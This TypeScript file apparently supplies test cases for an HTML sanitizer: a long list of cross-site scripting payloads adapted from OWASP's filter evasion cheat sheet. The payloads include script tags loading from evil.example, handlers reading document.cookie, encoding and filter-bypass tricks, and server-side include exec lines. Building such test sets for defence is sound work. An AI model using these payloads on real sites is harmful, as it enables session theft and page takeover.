import type { Attack } from "./attack.ts";

// The cases of OWASP's XSS Filter Evasion Cheat Sheet (github.com/OWASP/CheatSheetSeries, CC BY-SA), those that are
// HTML, in its order. The strings were written anew, with our words, names and hosts; where a trick is the whole of its
// string, ours is the same or nearly so.

/** `javascript:alert(1)` with each letter written by `write`. */
const written = (write: (code: number) => string) =>
  [..."javascript:alert(1)"].map((letter) => write(letter.charCodeAt(0))).join("");
const decimal = written((code) => `&#${code};`);
const paddedDecimal = written((code) => `&#${String(code).padStart(7, "0")}`);
const hexadecimal = written((code) => `&#x${code.toString(16).toUpperCase()}`);

const pictures: readonly Attack[] = [
  ["a script from elsewhere", "<SCRIPT SRC=https://evil.example/a.js></SCRIPT>"],
  [
    "a polyglot",
    "javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload='+/\"`/+/onfocus=1/+/[*/[]/+alert(1);//'>",
  ],
  ["a link that is hovered over", '<a onmouseover="alert(document.cookie)">a</a>'],
  ["a link without quotes", "<a onmouseover=alert(document.cookie)>a</a>"],
  ["a picture with three quotes", '<IMG """><SCRIPT>alert(1)</SCRIPT>">'],
  ["letters by their codes", "<IMG SRC=javascript:alert(String.fromCharCode(97))>"],
  ["a picture of nothing", "<IMG SRC=# onmouseover=\"alert('a')\">"],
  ["an empty picture", "<IMG SRC= onmouseover=\"alert('a')\">"],
  ["no picture", "<IMG onmouseover=\"alert('a')\">"],
  ["a picture that fails", '<IMG SRC=/ onerror="alert(String.fromCharCode(97))"></img>'],
  ["a handler in references", `<img src=x onerror="${paddedDecimal}">`],
  ["decimal references", `<IMG SRC=${decimal}>`],
  ["decimal references without ends", `<IMG SRC=${paddedDecimal}>`],
  ["hexadecimal references without ends", `<IMG SRC=${hexadecimal}>`],
  ["a tab", "<IMG SRC=\"jav\tascript:alert('a');\">"],
  ["a tab by reference", '<IMG SRC="jav&#x09;ascript:alert(1);">'],
  ["a line end by reference", '<IMG SRC="jav&#x0A;ascript:alert(1);">'],
  ["a carriage return by reference", '<IMG SRC="jav&#x0D;ascript:alert(1);">'],
  ["a zero", '<IMG SRC=java\u0000script:alert("a")>'],
  ["control characters first", '<IMG SRC=" &#14;  javascript:alert(1);">'],
  ["a slash after the name", '<SCRIPT/a SRC="https://evil.example/a.js"></SCRIPT>'],
  ["signs after a handler's name", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("a")>'],
  ["a slash for a space", '<SCRIPT/SRC="https://evil.example/a.js"></SCRIPT>'],
  ["one bracket more", '<<SCRIPT>alert("a");//\\<</SCRIPT>'],
  ["a script that does not end", "<SCRIPT SRC=https://evil.example/a.js?< B >"],
  ["a script without a scheme", "<SCRIPT SRC=//evil.example/.j>"],
  ["a half open picture", "<IMG SRC=\"`<javascript:alert>`('a')\""],
  ["a half open frame", "<iframe src=https://evil.example/a.html <"],
  ["an escaped escape", "\\\";alert('a');//"],
  ["an end of a script first", "</script><script>alert('a');</script>"],
  ["an end of a title first", '</TITLE><SCRIPT>alert("a");</SCRIPT>'],
  ["a field that is a picture", '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">'],
  ["a body's background", "<BODY BACKGROUND=\"javascript:alert('a')\">"],
  ["dynsrc", "<IMG DYNSRC=\"javascript:alert('a')\">"],
  ["lowsrc", "<IMG LOWSRC=\"javascript:alert('a')\">"],
  ["a list's picture", "<STYLE>li {list-style-image: url(\"javascript:alert('a')\");}</STYLE><UL><LI>a</br>"],
  ["VBScript", "<IMG SRC='vbscript:msgbox(\"a\")'>"],
  ["LiveScript", '<IMG SRC="livescript:[alert]">'],
  ["SVG that loads", "<svg/onload=alert('a')>"],
  ["a template string", "<script>Set.constructor`alert\\x281\\x29```</script>"],
  ["a body that loads", "<BODY ONLOAD=alert('a')>"],
];

/** The events that the sheet lists, most of them of browsers that are gone. */
const events = [
  ...[
    "Abort",
    "Activate",
    "AfterPrint",
    "AfterUpdate",
    "BeforeActivate",
    "BeforeCopy",
    "BeforeCut",
    "BeforeDeactivate",
  ],
  ...["BeforeEditFocus", "BeforePaste", "BeforePrint", "BeforeUnload", "BeforeUpdate", "Begin", "Blur", "Bounce"],
  ...[
    "CellChange",
    "Change",
    "Click",
    "ContextMenu",
    "ControlSelect",
    "Copy",
    "Cut",
    "DataAvailable",
    "DataSetChanged",
  ],
  ...["DataSetComplete", "DblClick", "Deactivate", "Drag", "DragEnd", "DragLeave", "DragEnter", "DragOver", "DragDrop"],
  ...["DragStart", "Drop", "End", "Error", "ErrorUpdate", "FilterChange", "Finish", "Focus", "FocusIn", "FocusOut"],
  ...["HashChange", "Help", "Input", "KeyDown", "KeyPress", "KeyUp", "LayoutComplete", "Load", "LoseCapture"],
  ...["MediaComplete", "MediaError", "Message", "MouseDown", "MouseEnter", "MouseLeave", "MouseMove", "MouseOut"],
  ...["MouseOver", "MouseUp", "MouseWheel", "Move", "MoveEnd", "MoveStart", "Offline", "Online", "OutOfSync", "Paste"],
  ...["Pause", "PopState", "Progress", "PropertyChange", "ReadyStateChange", "Redo", "Repeat", "Reset", "Resize"],
  ...["ResizeEnd", "ResizeStart", "Resume", "Reverse", "RowsEnter", "RowExit", "RowDelete", "RowInserted", "Scroll"],
  ...["Seek", "Select", "SelectionChange", "SelectStart", "Start", "Stop", "Storage", "SyncRestored", "Submit"],
  ...["TimeError", "TrackChange", "Undo", "Unload", "URLFlip"],
];
const handlers = events.map((event): Attack => [`on${event}`, `<p on${event}="alert(1)">a</p>`]);

const pages: readonly Attack[] = [
  ["a sound", "<BGSOUND SRC=\"javascript:alert('a');\">"],
  ["script in an ampersand", "<BR SIZE=\"&{alert('a')}\">"],
  ["a style sheet that runs", '<LINK REL="stylesheet" HREF="javascript:alert(\'a\');">'],
  ["a style sheet from elsewhere", '<LINK REL="stylesheet" HREF="https://evil.example/a.css">'],
  ["an imported style sheet", "<STYLE>@import'https://evil.example/a.css';</STYLE>"],
  ["a style sheet in a header", '<META HTTP-EQUIV="Link" Content="<https://evil.example/a.css>; REL=stylesheet">'],
  ["a binding", '<STYLE>BODY{-moz-binding:url("https://evil.example/a.xml#a")}</STYLE>'],
  ["an import in pieces", "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"a\")';</STYLE>"],
  ["an expression in pieces", "<IMG STYLE=\"a:expr/*a*/ession(alert('a'))\">"],
  ["an expression in more pieces", 'exp/*<A STYLE=\'no\\a:noa("*//*");\na:ex/*A*//*/*/pression(alert("a"))\'>'],
  ["a style sheet of script", "<STYLE TYPE=\"text/javascript\">alert('a');</STYLE>"],
  [
    "a background picture that runs",
    "<STYLE>.A{background-image:url(\"javascript:alert('a')\");}</STYLE><A CLASS=A></A>",
  ],
  ["a background that runs", '<STYLE type="text/css">BODY{background:url("javascript:alert(\'a\')")}</STYLE>'],
  ["a background in brackets", '<STYLE type="text/css">BODY{background:url("<javascript:alert>(\'a\')")}</STYLE>'],
  ["an invented element", "<YAGO STYLE=\"a:expression(alert('a'))\">"],
  ["an invented element with a file", '<YAGO STYLE="behavior: url(a.htc);">'],
  ["seven bits", "\u00bcscript\u00bealert(\u00a2a\u00a2)\u00bc/script\u00be"],
  ["a redirection that runs", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'a\');">'],
  [
    "a redirection to data",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  ],
  [
    "a redirection with two addresses",
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'a\');">',
  ],
  ["a frame that runs", "<IFRAME SRC=\"javascript:alert('a');\"></IFRAME>"],
  ["a frame that is hovered over", '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'],
  ["a frameset", "<FRAMESET><FRAME SRC=\"javascript:alert('a');\"></FRAMESET>"],
  ["a table", "<TABLE BACKGROUND=\"javascript:alert('a')\">"],
  ["a cell", "<TABLE><TD BACKGROUND=\"javascript:alert('a')\">"],
  ["a box's picture", "<DIV STYLE=\"background-image: url(javascript:alert('a'))\">"],
  [
    "a box's picture in escapes",
    `<DIV STYLE="background-image:${written((code) => `\\${code.toString(16).padStart(4, "0")}`)}">`,
  ],
  ["a box's picture after a control character", "<DIV STYLE=\"background-image: url(\u0001javascript:alert('a'))\">"],
  ["a box's width", "<DIV STYLE=\"width: expression(alert('a'));\">"],
  ["a conditional comment", "<!--[if gte IE 4]>\n<SCRIPT>alert('a');</SCRIPT>\n<![endif]-->"],
  ["a base", "<BASE HREF=\"javascript:alert('a');//\">"],
  ["an object", '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/a.html"></OBJECT>'],
  ["a film", '<EMBED SRC="https://evil.example/a.swf" AllowScriptAccess="always"></EMBED>'],
  [
    "an embedded SVG",
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  ],
  [
    "an island of data",
    '<XML ID="i"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML><SPAN DATASRC="#i" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
  ],
  ["an island in a file", '<XML SRC="a.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>'],
  [
    "time in XML",
    '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="a<SCRIPT DEFER>alert(1)</SCRIPT>"></BODY></HTML>',
  ],
  ["a script that is called a picture", '<SCRIPT SRC="https://evil.example/a.jpg"></SCRIPT>'],
  [
    "server-side includes",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=https://evil.example/a.js></SCRIPT>'\"-->",
  ],
  ["PHP", "<? echo('<SCR)';\necho('IPT>alert(\"a\")</SCRIPT>'); ?>"],
  ["a picture that is a command", '<IMG SRC="/api/article/1?delete=yes">'],
  ["a picture elsewhere", '<IMG SRC="https://evil.example/a.jpg">'],
  ["a cookie", '<META HTTP-EQUIV="Set-Cookie" Content="izina=<SCRIPT>alert(\'a\')</SCRIPT>">'],
  [
    "UTF-7",
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-',
  ],
  ["a bracket in quotes", '<SCRIPT a=">" SRC="https://evil.example/a.js"></SCRIPT>'],
  ["a bracket in quotes without a name", '<SCRIPT =">" SRC="https://evil.example/a.js"></SCRIPT>'],
  ["a bracket and empty quotes", '<SCRIPT a=">" \'\' SRC="https://evil.example/a.js"></SCRIPT>'],
  ["a name with quotes", '<SCRIPT "a=\'>\'" SRC="https://evil.example/a.js"></SCRIPT>'],
  ["back quotes", '<SCRIPT a=`>` SRC="https://evil.example/a.js"></SCRIPT>'],
  ["quotes in quotes", '<SCRIPT a=">\'>" SRC="https://evil.example/a.js"></SCRIPT>'],
  ["a tag that is written", '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/a.js"></SCRIPT>'],
];

const links: readonly Attack[] = [
  ["a number for a name", '<A HREF="http://192.0.2.7/">a</A>'],
  ["an encoded name", '<A HREF="http://%65%76%69%6C%2E%65%78%61%6D%70%6C%65">a</A>'],
  ["one number", '<A HREF="http://3221225991/">a</A>'],
  ["hexadecimal numbers", '<A HREF="http://0xC0.0x0000000.0x2.0x7/">a</A>'],
  ["octal numbers", '<A HREF="http://0300.0000.0002.00000007/">a</A>'],
  ["code in letters", "<img onload=\"eval(atob('YWxlcnQoMSk='))\">"],
  ["a scheme in pieces", '<A HREF="h\ntt\tp://1\t92.0.0x2.7/">a</A>'],
  ["no scheme", '<A HREF="//evil.example/">a</A>'],
  ["no scheme and one word", '<A HREF="//evil">a</A>'],
  ["a name before the host", '<A HREF="http://bank.example@evil">a</A>'],
  ["a name for a port", '<A HREF="http://evil:bank.example">a</A>'],
  ["a short name", '<A HREF="http://evil.example/">a</A>'],
  ["a dot at the end", '<A HREF="http://www.evil.example./">a</A>'],
  ["a link that goes on", "<A HREF=\"javascript:document.location='http://evil.example/'\">a</A>"],
  ["a name that is replaced", '<A HREF="http://www.evil.example/evil.example/">a</A>'],
  ["more parameters", '<a href="/share?type=1&title=umutwe&amp;type=1;alert(1)">a</a>'],
];

const firewalls: readonly Attack[] = [
  ["a handler that throws", '<Img src = x onerror = "javascript: window.onerror = alert; throw 1">'],
  ["a source with spaces", '<Video> <source onerror = "javascript: alert (1)">'],
  ["a field", '<Input value = "a" type = text>'],
  ["an applet", '<applet code="javascript:confirm(document.cookie);">'],
  ["isindex", '<isindex x="javascript:" onmouseover="alert(1)">'],
  ["quotes of all kinds", '"></SCRIPT>\u201d>\u2019><SCRIPT>alert(String.fromCharCode(97))</SCRIPT>'],
  ["an end of an attribute", '"><img src="x:x" onerror="alert(1)">'],
  ["an end of an attribute and a frame", '"><iframe src="javascript:alert(1)">'],
  ["an object that runs", '<object data="javascript:alert(1)">'],
  ["isindex as a picture", "<isindex type=image src=1 onerror=alert(1)>"],
  ["code in src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"],
  ["a name in escapes", '<img  src="x:gif" onerror="window[\'al\\u0065rt\'](0)"></img>'],
  ["a frame of SVG", '<iframe/src="data:text/html,<svg onload=alert(1)>">'],
  ["named references", '<meta content="&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)" http-equiv="refresh"/>'],
  ["a script in SVG by address", "<svg><script xlink:href=data&colon;,alert(1)></script"],
  ["a redirection", '<meta http-equiv="refresh" content="0;url=javascript:confirm(1)">'],
  ["a frame with named references", "<iframe src=javascript&colon;alert&lpar;document&period;location&rpar;>"],
  ["a link with an escape", '<form><a href="javascript:\\u0061lert(1)">a'],
  ["zeros and comments", "</script><img/*%00/src=\"x&colon;prompt(1)\"/%00*/onerror='eval(src)'>"],
  ["comments in a style sheet", "<style>//*{x:expression(alert(1))}//<style></style>"],
  ["a quote that is a name", '<img src="/" =_=" title="onerror=\'prompt(1)\'">'],
  ["many names before href", "<a a aa aaa aaaa aaaaa aaaaaa aaaaaaa href=j&#97v&#97script:&#97lert(1)>a"],
  ["a script's end with a name", "<script x> alert(1) </script 1=2"],
  ["formaction with a named reference", "<form><button formaction=javascript&colon;alert(1)>a"],
  ["a field that does not end", '<input/onmouseover="javaSCRIPT&colon;confirm&lpar;1&rpar;"'],
  [
    "an encoded frame",
    '<iframe src="data:text/html,%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72%69%70%74%3E"></iframe>',
  ],
  [
    "an object with a parameter",
    '<OBJECT CLASSID="clsid:333C7BC4-0000-0000-0000-000000000000"><PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT>',
  ],
  ...[
    "(alert)(1)",
    "a=alert,a(1)",
    "[1].find(alert)",
    'top["al"+"ert"](1)',
    "top[/al/.source+/ert/.source](1)",
    "al\\u0065rt(1)",
  ].map((code): Attack => [`a handler with ${code}`, `<img src=x onerror='${code}'>`]),
  ...[
    "top['al\\145rt'](1)",
    "top['al\\x65rt'](1)",
    "top[8680439..toString(30)](1)",
    "alert?.()",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the attack's
    "`${alert``}`",
    "(alert())",
  ].map((code): Attack => [`a handler with ${code}`, `<img src=x onerror="${code}">`]),
];

/** Every way of writing `<` that the sheet lists. */
const brackets = [
  ...["<", "%3C", "&lt", "&lt;", "&LT", "&LT;", "\\x3c", "\\x3C", "\\u003c", "\\u003C"],
  ...[2, 3, 4, 5, 6, 7].flatMap((digits) => ["", ";"].map((end) => `&#${"60".padStart(digits, "0")}${end}`)),
  ...["x3c", "x3C", "X3c", "X3C"].flatMap((code) =>
    [0, 1, 2, 3, 4, 5].flatMap((zeros) =>
      ["", ";"].map((end) => `&#${code[0]}${"0".repeat(zeros)}${code.slice(1)}${end}`),
    ),
  ),
];
const escapes = brackets.map((bracket): Attack => [`${bracket} for <`, `${bracket}img src=x onerror=alert(1)>`]);

export const owasp: readonly Attack[] = [...pictures, ...handlers, ...pages, ...links, ...firewalls, ...escapes];
